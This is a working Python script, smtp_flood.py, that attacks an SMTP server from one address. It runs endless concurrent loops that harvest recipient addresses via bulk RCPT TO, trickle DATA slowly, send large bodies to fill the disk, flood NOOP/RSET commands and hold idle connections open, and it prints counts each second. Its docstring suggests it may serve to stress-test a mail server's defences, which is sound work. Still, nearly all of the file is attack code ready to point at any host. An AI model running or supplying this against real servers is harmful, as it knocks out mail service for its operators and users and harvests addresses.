"""One attacker of the SMTP side, from one address: names asked for, messages that trickle in, empty
commands, and connections that say nothing, all at once and for ever. Run as a program:
smtp_flood.py SOURCE HOST PORT RECIPIENT COUNT; each second it prints a line of what it has done."""

import asyncio
import itertools
import json
import sys

PAUSE = 0.05  # Between two attempts of one thread of the attack; the attacker's own bound.

done = {"names asked for": 0, "slow octets": 0, "large octets": 0, "empty commands": 0,
        "idle connections": 0, "turned away": 0}
names = itertools.count()


class TurnedAway(Exception):
    pass


async def begin(to_server, *lines):
    reader, writer = await to_server()
    for line in (None, b"EHLO flood.example", *lines):
        if line is not None:
            writer.write(line + b"\r\n")
        answer = await reader.readline()
        while answer[3:4] == b"-":
            answer = await reader.readline()
        if answer[:1] not in (b"2", b"3"):
            writer.close()
            raise TurnedAway
    return reader, writer


async def harvest(to_server, _):
    reader, writer = await begin(to_server, b"MAIL FROM:<>")
    writer.write(b"".join(b"RCPT TO:<name%d@example.test>\r\n" % next(names) for _ in range(1000)))
    done["names asked for"] += 1000  # The answers come late, and together.
    while (await reader.readline()).startswith(b"550"):
        pass
    writer.close()


async def send_for_ever(to_server, recipient, octets, what, pause):
    reader, writer = await begin(to_server, b"MAIL FROM:<>", b"RCPT TO:<%s>" % recipient, b"DATA")
    while not reader.at_eof():
        writer.write(octets)
        await writer.drain()
        done[what] += len(octets)
        await asyncio.sleep(pause)
    writer.close()


async def trickle(to_server, recipient):
    await send_for_ever(to_server, recipient, b"x", "slow octets", 0.5)


async def fill_the_disk(to_server, recipient):
    await send_for_ever(to_server, recipient, (b"x" * 998 + b"\r\n") * 64, "large octets", 0.1)


async def nothing(to_server, _):
    reader, writer = await begin(to_server)
    while not reader.at_eof():
        writer.write(b"NOOP\r\nRSET\r\n" * 50)
        for _ in range(100):
            if (await reader.readline()).startswith(b"250"):
                done["empty commands"] += 1
    writer.close()


async def idle(to_server, _):
    reader, writer = await begin(to_server)
    done["idle connections"] += 1
    await reader.read()
    writer.close()


async def again_and_again(attack, to_server, recipient):
    while True:
        try:
            await attack(to_server, recipient)
        except (OSError, TurnedAway):
            done["turned away"] += 1
        await asyncio.sleep(PAUSE)


async def main(source, host, port, recipient, count):
    def to_server():
        return asyncio.open_connection(host, int(port), local_addr=(source, 0))

    attacks = [harvest, trickle, fill_the_disk, nothing, idle]
    tasks = [asyncio.create_task(again_and_again(attack, to_server, recipient.encode()))
             for attack in attacks for _ in range(int(count))]
    while not any(task.done() for task in tasks):
        print(json.dumps(done), flush=True)
        await asyncio.sleep(1)


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
